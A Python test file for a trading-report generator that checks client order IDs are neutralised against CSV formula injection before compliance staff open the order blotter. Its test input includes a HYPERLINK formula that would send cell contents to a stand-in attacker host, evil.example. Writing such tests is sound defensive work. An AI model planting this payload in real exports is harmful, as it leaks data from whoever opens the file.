"""Report CSVs are opened in spreadsheets: text a desk sent must not run there as a formula.

A FIX desk may put anything printable in ClOrdID (11), and that value reaches the
order blotter CSV that compliance staff open. Such cells get an apostrophe in front
(CWE-1236); signed numbers stay numbers; the audit log keeps the value as sent. A
report made before the guard still verifies: it is rebuilt the way it was made.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from reporting import generate_report, verify_report
from reporting.build import UNGUARDED_CSV
from reporting.csvout import CsvSink, guard_formula
from reporting.manifest import manifest_path, sign_manifest, write_manifest
from risk_controls.domain import Side
from tests.reporting.conftest import read_csv
from tests.reporting.daylog import DAY, DayLog, SampleLog

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"details")'
OLD_GENERATOR = UNGUARDED_CSV


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+1-2", "'+1-2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-100", "-100"),  # a short position is a number, not a formula
        ("-0.25", "-0.25"),
        ("C00012", "C00012"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_cells_become_text(text: str, shown: str) -> None:
    assert guard_formula(text) == shown


def test_both_write_paths_guard_every_cell(tmp_path: Path) -> None:
    sink = CsvSink(tmp_path / "r.csv", ("a", "b", "c"))
    sink.write_text(["plain", "=1+1", "-5"])
    sink.write_text(["@x", None, "ok"])
    sink.write(["=A1", -7, None])
    sink.close()
    rows = read_csv(tmp_path / "r.csv")
    assert [list(r.values()) for r in rows] == [
        ["plain", "'=1+1", "-5"],
        ["'@x", "", "ok"],
        ["'=A1", "-7", ""],
    ]


def test_the_guard_can_be_off_for_old_reports(tmp_path: Path) -> None:
    sink = CsvSink(tmp_path / "r.csv", ("a", "b"), guard_formulas=False)
    sink.write_text(["=1+1", "x"])
    sink.close()
    assert read_csv(tmp_path / "r.csv")[0]["a"] == "=1+1"


def _hostile_day() -> SampleLog:
    d = DayLog(datetime(2026, 11, 20, 9, tzinfo=UTC))
    order = d.new_order("ACC-HOUSE", "AAPL", Side.BUY, 10, "228.50", cl_ord_id=HOSTILE)
    d.accept(order)
    d.checkpoint()
    return SampleLog(d.log, DAY, d.key)


def _blotter(paths: list[Path]) -> Path:
    return next(p for p in paths if p.name.startswith("order-blotter") and p.suffix == ".csv")


def test_a_hostile_client_order_id_reaches_the_blotter_as_text(tmp_path: Path) -> None:
    sample = _hostile_day()
    paths = generate_report("order-blotter", sample.log, DAY, DAY, "csv", tmp_path, sample.key)
    report = _blotter(paths)
    (row,) = read_csv(report)
    assert row["cl_ord_id"] == "'" + HOSTILE
    assert row["quantity"] == "10"
    records = list(sample.log.read())
    assert any(r.payload.get("order", {}).get("cl_ord_id") == HOSTILE for r in records)
    assert verify_report(report, sample.log).ok


def test_a_report_made_before_the_guard_still_verifies(tmp_path: Path) -> None:
    sample = _hostile_day()
    paths = generate_report(
        "order-blotter", sample.log, DAY, DAY, "csv", tmp_path, sample.key, generator=OLD_GENERATOR
    )
    report = _blotter(paths)
    assert read_csv(report)[0]["cl_ord_id"] == HOSTILE
    assert json.loads(manifest_path(report).read_text())["generator"] == OLD_GENERATOR
    verification = verify_report(report, sample.log)
    assert verification.ok, verification.problems


def test_a_manifest_from_an_unknown_generator_is_not_passed(tmp_path: Path) -> None:
    sample = _hostile_day()
    report = _blotter(generate_report("order-blotter", sample.log, DAY, DAY, "csv", tmp_path, sample.key))
    path = manifest_path(report)
    body = json.loads(path.read_text())
    body["generator"] = "compliance-gateway reporting 99"
    write_manifest(path, sign_manifest(body, sample.key))  # a well-signed manifest from elsewhere
    verification = verify_report(report, sample.log)
    assert not verification.ok
    assert any("reporting 99" in p for p in verification.problems)


def test_generating_for_an_unknown_generator_is_refused(tmp_path: Path) -> None:
    sample = _hostile_day()
    with pytest.raises(ValueError, match="reporting 99"):
        generate_report(
            "order-blotter", sample.log, DAY, DAY, "csv", tmp_path, sample.key,
            generator="compliance-gateway reporting 99",
        )  # fmt: skip
